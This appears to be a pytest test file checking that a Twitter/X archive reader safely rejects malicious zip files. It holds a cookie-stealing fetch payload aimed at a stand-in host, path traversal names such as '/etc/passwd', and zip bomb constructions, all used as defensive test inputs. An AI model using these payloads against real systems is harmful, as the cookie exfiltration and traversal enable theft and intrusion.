"""Reading Twitter/X archives without extracting them: normal data, bombs, traversal, JS."""

from __future__ import annotations

import os
import time
import zipfile
from pathlib import Path

import pytest

from fedidesk.core.contacts.archive import (
    ArchiveCancelled,
    ArchiveError,
    ArchiveLimits,
    parse_js,
    read_archive,
    screen_name_from_link,
)
from tests.contacts.archives import make_zip, normal_members, patch_central, tweet, ytd

MIB = 1024 * 1024


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")}


def test_normal_archive(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "twitter.zip", normal_members())
    before = _files(tmp_path)
    archive = read_archive(path)
    assert _files(tmp_path) == before  # nothing extracted
    assert archive.owner == "owner"
    assert archive.owner_id == "99"
    assert sorted(archive.members) == ["data/account.js", "data/follower.js",
                                       "data/following.js", "data/manifest.js",
                                       "data/tweets-part1.js", "data/tweets.js"]
    names = {a.account_id: (a.screen_name, a.name_source) for a in archive.following}
    assert names == {"1": ("alice", "tweets"), "2": ("bobby", "tweets"),
                     "3": ("charlie", "userLink"), "4": (None, "")}
    assert archive.recovered == 3
    assert [(a.account_id, a.screen_name) for a in archive.followers] == [("5", "eve_5")]
    assert archive.screen_names == {"1": "alice", "2": "bobby"}
    assert [t.tweet_id for t in archive.tweets] == ["102", "100", "101"]
    assert archive.tweets[2].urls == ("https://hachyderm.io/@bob",)


def test_bare_objects_and_manifest_owner(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "a.zip", {
        "data/manifest.js": 'window.__THAR_CONFIG = {"userInfo": {"accountId": "7", '
                            '"userName": "mani"}};',
        "data/following.js": 'window.YTD.following.part0 = [{"accountId": "8"}]',
    })
    archive = read_archive(path)
    assert (archive.owner, archive.owner_id) == ("mani", "7")
    assert [a.account_id for a in archive.following] == ["8"]


@pytest.mark.parametrize(("link", "name"), [
    ("https://twitter.com/intent/user?user_id=12", None),
    ("https://twitter.com/Bob_1", "Bob_1"),
    ("https://x.com/alice", "alice"),
    ("https://mobile.twitter.com/alice/", "alice"),
    ("https://twitter.com/i/user/12", None),
    ("https://evil.example/alice", None),
    ("https://twitter.com/much_too_long_name_x", None),
    ("not a url", None),
])
def test_screen_name_from_link(link: str, name: str | None) -> None:
    assert screen_name_from_link(link) == name


# -- JavaScript is data ----------------------------------------------------------------------


@pytest.mark.parametrize("payload", [
    "alert(1)",
    "window.YTD.tweets.part0 = alert(1)",
    "window.YTD.tweets.part0 = (function(){ throw new Error('x') })()",
    "fetch('https://evil.example/?' + document.cookie); window.YTD.tweets.part0 = []",
    "window.YTD.tweets.part0 = [1, 2",
    "",
])
def test_tweets_js_that_is_code_is_a_parse_error(tmp_path: Path, payload: str) -> None:
    path = make_zip(tmp_path / "a.zip", {"data/tweets.js": payload})
    with pytest.raises(ArchiveError) as info:
        read_archive(path)
    assert "data/tweets.js" in info.value.user_message


def test_parse_js_accepts_bom_and_semicolon() -> None:
    assert parse_js("\ufeffwindow.YTD.x.part3 = [1];\n".encode(), "x") == [1]


def test_parse_js_rejects_non_utf8() -> None:
    with pytest.raises(ArchiveError, match="not UTF-8"):
        parse_js(b"window.YTD.x.part0 = [\"\xff\"]", "x")


def test_deeply_nested_json_is_an_error_not_a_crash() -> None:
    with pytest.raises(ArchiveError):
        parse_js(("window.YTD.x.part0 = " + "[" * 100_000 + "]" * 100_000).encode(), "x")


# -- names ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [
    "../../evil", "../../evil.js", "data/../../evil.js", "/abs.js", "/etc/passwd",
    "C:\\x.js", "C:x", "data\\following.js", "..\\..\\evil",
])
def test_unsafe_member_names_are_rejected(tmp_path: Path, name: str) -> None:
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    members = {**normal_members(), name: "window.YTD.x.part0 = []"}
    path = make_zip(work / "evil.zip", members)
    before = _files(tmp_path)
    cwd = Path.cwd()
    cwd_before = set(os.listdir(cwd))
    with pytest.raises(ArchiveError) as info:
        read_archive(path)
    assert "file name" in info.value.user_message
    assert _files(tmp_path) == before
    assert set(os.listdir(cwd)) == cwd_before
    assert not (tmp_path / "evil").exists()
    assert not (tmp_path / "evil.js").exists()


def test_duplicate_names_are_rejected(tmp_path: Path) -> None:
    path = tmp_path / "dup.zip"
    make_zip(path, {"data/following.js": ytd("following", [])})
    with zipfile.ZipFile(path, "a") as zf, pytest.warns(UserWarning, match="Duplicate"):
        zf.writestr("data/following.js", ytd("following", []))
    with pytest.raises(ArchiveError, match="same file twice"):
        read_archive(path)


# -- bombs and caps ---------------------------------------------------------------------------


def test_highly_compressible_member_stops_at_the_ratio(tmp_path: Path) -> None:
    body = "window.YTD.tweets.part0 = [" + " " * (40 * MIB) + "]"
    path = make_zip(tmp_path / "bomb.zip", {"data/tweets.js": body})
    assert path.stat().st_size < MIB
    started = time.monotonic()
    with pytest.raises(ArchiveError, match="zip bomb"):
        read_archive(path)
    assert time.monotonic() - started < 5


def test_declared_size_above_the_cap_is_refused_before_reading(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "big.zip", {"data/tweets.js": ytd("tweets", []) + " " * (3 * MIB)})
    with pytest.raises(ArchiveError, match="larger than 1 MB"):
        read_archive(path, limits=ArchiveLimits(max_member_bytes=MIB))


def test_understated_size_does_not_inflate(tmp_path: Path) -> None:
    # The directory claims 1,000 bytes; the data inflates to 64 MB of zeros. Reading stops
    # at the claimed size and the checksum fails: an error, never 64 MB in memory.
    body = b"window.YTD.tweets.part0 = [" + b"0" * (64 * MIB) + b"]"
    path = make_zip(tmp_path / "liar.zip", {"data/tweets.js": body})
    patch_central(path, 0, file_size=1000)
    assert zipfile.ZipFile(path).infolist()[0].file_size == 1000
    started = time.monotonic()
    with pytest.raises(ArchiveError, match="damaged"):
        read_archive(path)
    assert time.monotonic() - started < 2


def test_streaming_count_enforces_the_member_cap(tmp_path: Path) -> None:
    # Stored (not compressed): the ratio check cannot help, the byte count must.
    body = ytd("tweets", [tweet(str(i), "x" * 1000) for i in range(3000)])
    path = make_zip(tmp_path / "stored.zip", {"data/tweets.js": body}, zipfile.ZIP_STORED)
    with pytest.raises(ArchiveError, match="larger than 2 MB"):
        read_archive(path, limits=ArchiveLimits(max_member_bytes=2 * MIB))


def test_total_cap(tmp_path: Path) -> None:
    filler = " " * (700 * 1024)
    path = make_zip(tmp_path / "t.zip", {"data/tweets.js": ytd("tweets", []) + filler,
                                         "data/tweets-part1.js": ytd("tweets", []) + filler})
    with pytest.raises(ArchiveError, match="larger than 1 MB together"):
        read_archive(path, limits=ArchiveLimits(max_total_bytes=MIB))


def test_overlapping_entries_are_rejected(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "overlap.zip", {
        "data/tweets.js": ytd("tweets", []) + " " * 10_000,
        "data/follower.js": ytd("follower", []),
    })
    first = zipfile.ZipFile(path).infolist()[0].header_offset
    patch_central(path, 1, header_offset=first)  # both entries now point at the same data
    with pytest.raises(ArchiveError, match=r"overlapping|damaged|not a zip"):
        read_archive(path)


def test_too_many_entries(tmp_path: Path) -> None:
    members: dict[str, str | bytes] = {f"data/tweets_media/{i}.jpg": b"x" for i in range(11)}
    path = make_zip(tmp_path / "many.zip", members)
    with pytest.raises(ArchiveError, match="too many files"):
        read_archive(path, limits=ArchiveLimits(max_entries=10))


def test_not_a_zip(tmp_path: Path) -> None:
    path = tmp_path / "fake.zip"
    path.write_bytes(b"PK\x03\x04 this is not really a zip" * 10)
    with pytest.raises(ArchiveError, match="not a zip"):
        read_archive(path)


def test_zip_without_archive_data(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "other.zip", {"README.txt": "hello"})
    with pytest.raises(ArchiveError, match="does not look like"):
        read_archive(path)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ArchiveError, match="Could not open"):
        read_archive(tmp_path / "nope.zip")


def test_cancel(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "twitter.zip", normal_members())
    with pytest.raises(ArchiveCancelled):
        read_archive(path, cancel=lambda: True)
